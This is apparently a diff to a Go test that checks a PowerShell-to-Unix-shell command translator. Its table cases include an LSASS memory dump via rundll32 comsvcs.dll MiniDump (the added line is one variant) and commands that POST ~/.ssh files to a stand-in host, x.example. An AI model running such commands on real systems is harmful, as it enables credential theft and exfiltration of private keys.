@@ -107,6 +107,7 @@ func TestTranslatePwsh(t *testing.T) {
 		{"Set-ExecutionPolicy -Scope Process -ExecutionPolicy Bypass; ./build.ps1", "true\n./build.ps1"},
 		{"Set-ExecutionPolicy -Scope LocalMachine Unrestricted", "$_"},
 		{"rundll32.exe comsvcs.dll MiniDump ((Get-Process -Name lsass).Id) d.bin full", "rundll32.exe comsvcs.dll MiniDump \"$(pgrep lsass)\" d.bin full"},
+		{"rundll32.exe comsvcs.dll MiniDump (Get-Process lsass).Id d.bin full", "rundll32.exe comsvcs.dll MiniDump \"$(pgrep lsass)\" d.bin full"},
 		{"gci ~/.ssh | % { irm -Uri https://x.example -Method Post -InFile $_.FullName }", "ls ~/.ssh | curl -X POST -T ~/.ssh/* https://x.example"},
 		{"Get-Content list.txt | % { irm -Uri https://x.example -Method Post -InFile $_ }", "cat list.txt | xargs -I{} curl -X POST -T {} https://x.example"},
 	} {
